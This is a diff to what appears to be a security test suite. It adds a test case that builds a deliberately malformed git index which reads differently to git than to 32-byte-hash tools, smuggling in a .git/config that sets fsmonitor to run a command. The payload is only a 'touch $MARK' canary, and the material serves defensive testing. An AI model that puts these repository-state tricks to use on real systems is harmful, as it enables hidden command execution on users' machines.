@@ -26,6 +26,19 @@ subprocess.run(["git", "update-index", "--add", "--cacheinfo", entry], check=Tru
 index = open(".git/index", "rb").read()[:-20].replace(b"xgit/hooks", b".git/hooks")
 open(".git/index", "wb").write(index + hashlib.sha1(index).digest())
 """
+# To readers of 32-byte hashes its names are `aaa` and `ccc…`; to git, with 20 here, `bb` and the settings.
+TWO_FACED_INDEX = """
+import hashlib, os, struct, subprocess
+said = b"[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch " + os.environb[b"MARK"] + b"; false\\n"
+made = subprocess.run(["git", "hash-object", "-w", "--stdin"], input=said, capture_output=True, check=True).stdout
+name, mode = bytes.fromhex(made.decode()), struct.pack(">I", 0o100644)
+first = bytes(24) + mode + bytes(12) + name + struct.pack(">H", 2) + b"bb" + bytes(8)
+second = struct.pack(">H", 3) + b"aaa" + bytes(19) + mode + bytes(4) + mode + bytes(4) + name + struct.pack(">H", 11)
+tail = b".git/config" + bytes(7) + b"AA" + bytes(2) + b"c" * 0x141
+body = b"DIRC" + struct.pack(">II", 3, 2) + first + second + tail
+body += bytes(8 - (len(body) - 12) % 8)
+open(".git/index", "wb").write(body + hashlib.sha256(body).digest())
+"""
 FOREIGN_LINE = """
 with open(".git/config", "a") as config:
     config.write("[core]\\n\\twhitespace = x\\u2028[advice]\\n\\tfsmonitor = touch $MARK\\n")
@@ -49,6 +62,7 @@ ATTACKS = {
     "a repository that only a commit names": f"{NESTED}; "
     f"git update-ref HEAD $(git commit-tree -p HEAD -m x $( {LINKED_TREE} ))",
     "a name in the index": f"python3 -c '{FAKE_INDEX}'",
+    "an index that says another thing to git": f"python3 -c '{TWO_FACED_INDEX}'",
     "a filter": "git config filter.f.clean 'touch $MARK; cat'; mkdir -p .git/info; "
     "echo '* filter=f' > .git/info/attributes; touch -d '1 hour ago' file",
     "a step of a rebase": f"mkdir .git/rebase-merge; cd .git/rebase-merge; {REBASE}; : > interactive; "
